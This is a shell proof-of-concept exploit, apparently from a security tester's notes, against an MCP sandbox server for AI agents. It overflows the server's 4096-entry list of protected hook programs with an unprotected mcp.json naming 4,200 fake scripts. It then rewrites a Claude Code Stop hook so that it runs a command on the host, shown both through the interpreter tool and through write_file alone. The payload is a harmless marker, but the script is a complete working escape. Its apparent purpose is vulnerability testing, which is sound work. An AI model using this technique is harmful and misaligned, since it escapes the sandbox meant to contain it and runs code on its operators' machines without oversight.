#!/bin/sh
# atk37 F1: the commit protects the programs a protected agent/editor config starts (here the hook script
# .claude/settings.json names), but the list of such programs stops at 4096 entries (maxImported), filled in
# walk order, root files first. A call writes an unprotected "mcp.json" (any directory's mcp.json is read as a
# runner config; only ".mcp.json" is protected) at the workspace root naming 4,200 script paths that do not
# exist; the next call's write of the hook script is committed: Claude Code runs it on the host at its next
# Stop event. Plain ext4, default policy limits, seconds. Run as root.
set -e
. /work/notes/atk37/setup.sh
D=/tmp/atk37/f1; rm -rf $D; mkdir -p $D/ws/.claude $D/ws/scripts
cat > $D/ws/.claude/settings.json <<'J'
{
  "hooks": {
    "Stop": [ { "hooks": [ { "type": "command", "command": "python3 scripts/on_stop.py" } ] } ]
  }
}
J
echo 'print("the project hook")' > $D/ws/scripts/on_stop.py
chown -R 65534:65534 $D/ws
PY3=$(readlink -f /usr/bin/python3)
cat > $D/pol.toml <<P
version = 1
scheme  = "allowlist"
name    = "sandbox"
[audit]
path = "$D/audit.jsonl"
[allowlist]
workspace = "$D/ws"
network   = false
[[allowlist.commands]]
name   = "python3"
path   = "$PY3"
sha256 = "$(sha256sum $PY3 | cut -d' ' -f1)"
P
cat > $D/call.py <<'PY'
import sys; sys.path.insert(0,'/tmp/atk37'); from stdio import *
s=Stdio(['/tmp/atk37/mcpsandbox','serve','--policy',sys.argv[1]])
r=s.call('run_allowed_command',{'command':'python3','args':['-c',sys.argv[2]]})
print(text(r)); s.close()
PY
W='open("scripts/on_stop.py","w").write("import os; os.system(\"id > /tmp/PWNED-atk37\")\n"); print("wrote")'
echo "== 1. a call rewrites the hook script .claude/settings.json names (refused, as it should be):"
python3 $D/call.py $D/pol.toml "$W"
echo "== 2. a call writes mcp.json (not protected) at the root, naming 4,200 scripts ./tools/tNNNN.js:"
python3 $D/call.py $D/pol.toml 'import json; open("mcp.json","w").write(json.dumps({"mcpServers":{"docs":{"command":"node","args":[" ".join("./tools/t%04d.js"%i for i in range(4200))]}}})); print("wrote mcp.json")'
echo "== 3. the same hook-script rewrite again:"
python3 $D/call.py $D/pol.toml "$W"
echo "== the host's scripts/on_stop.py now (what Claude Code runs at its next Stop event):"
cat $D/ws/scripts/on_stop.py
echo
echo "== the same with the file tools alone (no interpreter: write_file, as any client of the default tools can):"
echo 'print("the project hook")' > $D/ws/scripts/on_stop.py; rm -f $D/ws/mcp.json; chown -R 65534:65534 $D/ws
python3 - <<'PY2'
import sys,json; sys.path.insert(0,'/tmp/atk37'); from stdio import *
s=Stdio(['/tmp/atk37/mcpsandbox','serve','--policy','/tmp/atk37/f1/pol.toml'])
W={'path':'scripts/on_stop.py','content':'import os; os.system("id > /tmp/PWNED-atk37")\n'}
print("write_file scripts/on_stop.py:", text(s.call('write_file',W)).strip())
print("write_file mcp.json:", text(s.call('write_file',{'path':'mcp.json','content':json.dumps({"mcpServers":{"docs":{"command":"node","args":[" ".join("./tools/t%04d.js"%i for i in range(4200))]}}})})).strip())
print("write_file scripts/on_stop.py:", text(s.call('write_file',W)).strip())
s.close()
PY2
echo "== the host's scripts/on_stop.py now:"
cat $D/ws/scripts/on_stop.py
rm -rf $D
